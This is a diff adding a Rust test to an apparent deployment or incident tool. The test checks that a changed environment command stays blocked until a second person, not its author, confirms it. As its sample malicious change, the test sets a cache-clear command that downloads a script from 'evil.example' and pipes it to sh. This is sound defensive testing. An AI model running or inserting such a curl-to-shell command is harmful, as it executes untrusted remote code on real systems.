@@ -606,3 +606,115 @@ async fn concurrent_approvals_never_make_a_plan_ready_with_fewer_than_two() {
         }
     }
 }
+
+/// Issue 15 §9: one person changing what runs on an environment (here a command into
+/// `sh -c …`) blocks every execution on it until a second person confirms; the author
+/// cannot confirm; both are recorded.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_change_of_commands_waits_for_a_second_person() {
+    use app::domain::environment::{CommandLine, CommandName};
+    let s = scenario("application").await;
+    let admin = s.user("admin@taskflow.example").await;
+    let claire = s.user(CLAIRE).await;
+    let mut config = app::backend::environments::config(&s.app.pool, s.environment)
+        .await
+        .unwrap()
+        .unwrap();
+    config.commands.insert(
+        CommandName::CacheClear,
+        CommandLine::parse("sh -c 'curl -s https://evil.example/x | sh'").unwrap(),
+    );
+    let change = app::backend::environments::save(&s.app.pool, admin.id, s.environment, &config)
+        .await
+        .unwrap();
+    assert_eq!(change.commands, ["cache_clear"]);
+    assert!(change.outside.contains(&"sh".to_owned()), "{change:?}");
+
+    // The plan made afterwards is not stale, yet nothing executes.
+    s.prepare(&claire, PREVIOUS).await;
+    let refused = app::backend::executions::start(
+        &s.app.pool,
+        app::domain::plan::ApprovalPolicy::default(),
+        &claire,
+        s.incident,
+        None,
+        chrono::Utc::now(),
+    )
+    .await
+    .unwrap_err();
+    assert!(
+        format!("{refused:?}").contains("RunConfigUnconfirmed"),
+        "{refused:?}"
+    );
+    let page = format!("/environments/{}", s.environment);
+    let admin_browser = s.browser("admin@taskflow.example").await;
+    let (_, html) = admin_browser.page(&s.app, &page).await;
+    assert!(html.contains("id=\"run-config-pending\""), "{html}");
+    assert!(html.contains("Modifié par Alex Admin"), "{html}");
+    assert!(
+        html.contains("<strong>Programmes hors de la liste admise : echo, sh</strong>"),
+        "{html}"
+    );
+    assert!(
+        !html.contains("id=\"confirm-run-config\""),
+        "the author cannot confirm"
+    );
+    let (_, html) = admin_browser
+        .submit_and_follow(
+            &s.app,
+            &page,
+            "/api/confirm_run_config",
+            &[("id", &s.environment.to_string())],
+        )
+        .await;
+    assert!(
+        html.contains("une deuxième personne doit la confirmer"),
+        "{html}"
+    );
+    // A developer may not confirm either.
+    let thomas = s.browser(THOMAS).await;
+    let (_, html) = thomas.page(&s.app, &page).await;
+    assert!(!html.contains("id=\"confirm-run-config\""), "{html}");
+
+    // Claire (tech lead) confirms; the plan executes.
+    let claire_browser = s.browser(CLAIRE).await;
+    let (_, html) = claire_browser.page(&s.app, &page).await;
+    assert!(
+        html.contains("hors liste"),
+        "the sh command is flagged: {html}"
+    );
+    let (_, html) = claire_browser
+        .submit_and_follow(
+            &s.app,
+            &page,
+            "/api/confirm_run_config",
+            &[("id", &s.environment.to_string())],
+        )
+        .await;
+    assert!(html.contains("Modification confirmée"), "{html}");
+    assert!(!html.contains("id=\"run-config-pending\""), "{html}");
+    let events: Vec<(String, Option<uuid::Uuid>)> = sqlx::query_as(
+        "SELECT kind, actor_id FROM environment_events WHERE environment_id = $1 ORDER BY id",
+    )
+    .bind(s.environment)
+    .fetch_all(&s.app.pool)
+    .await
+    .unwrap();
+    assert_eq!(
+        events,
+        [
+            ("run_config_changed".to_owned(), Some(admin.id)),
+            ("run_config_confirmed".to_owned(), Some(claire.id))
+        ]
+    );
+    app::backend::executions::start(
+        &s.app.pool,
+        app::domain::plan::ApprovalPolicy::default(),
+        &claire,
+        s.incident,
+        None,
+        chrono::Utc::now(),
+    )
+    .await
+    .expect("confirmed: the plan executes");
+}
